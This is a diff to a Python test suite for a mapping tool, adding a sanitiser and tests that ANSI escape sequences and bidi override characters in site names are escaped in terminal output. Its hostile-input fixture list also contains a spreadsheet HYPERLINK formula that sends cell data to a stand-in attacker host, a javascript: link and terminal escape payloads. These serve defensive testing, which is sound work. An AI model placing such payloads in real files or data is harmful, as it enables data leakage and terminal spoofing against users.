@@ -25,6 +25,7 @@ import os
 import pkgutil
 import re
 import sqlite3
+import unicodedata
 from html.parser import HTMLParser
 from pathlib import Path
 from types import SimpleNamespace
@@ -52,6 +53,7 @@ from geomap.core.safe_text import (
     markdown_code,
     markdown_text,
     neutralize_formula,
+    terminal_text,
     write_csv,
 )
 from geomap.errors import CatalogError
@@ -762,6 +764,7 @@ def hostile_build(tmp_path_factory):
         '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
         "[x](javascript:alert(1)) $x^2$",
         "@SUM(1,2)",
+        "\x1b[2J\x1b[31mRED\x1b[0m \u202eevil",
     ]
     data_root = work / "data"
     changed = _hostile_minmod(data_root, site_names)
@@ -811,9 +814,13 @@ def hostile_build(tmp_path_factory):
             app,
             ["occurrences", "--dataset", "minmod-usgs-mrdata", "-r", "japan", "--format", "csv"],
         )
+        table = runner.invoke(
+            app, ["occurrences", "--dataset", "minmod-usgs-mrdata", "-r", "japan"]
+        )
     return SimpleNamespace(
         result=result,
         occurrences=occurrences,
+        table=table,
         out=out,
         markers=markers,
         site_names=site_names,
@@ -893,3 +900,18 @@ def test_build_figures_are_written(hostile_build):
     png = hostile_build.out / "figures" / "prospectivity.png"
     with Image.open(png) as image:
         assert image.size[0] > 100
+
+
+def test_occurrence_table_on_a_terminal_shows_control_characters(hostile_build):
+    """An escape sequence or a bidi override in a site name cannot rewrite the terminal."""
+    assert hostile_build.table.exit_code == 0, hostile_build.table.output
+    printed = hostile_build.table.stdout
+    assert "\x1b" not in printed and "\u202e" not in printed
+    assert "\\x1b[2J\\x1b[31mRED" in printed
+
+
+@given(st.text())
+def test_property_terminal_text_keeps_no_control_character(value):
+    shown = terminal_text(value)
+    assert not [c for c in shown if c not in "\n\t" and unicodedata.category(c) == "Cc"]
+    assert not set(shown) & {"\u202a", "\u202b", "\u202c", "\u202d", "\u202e"}
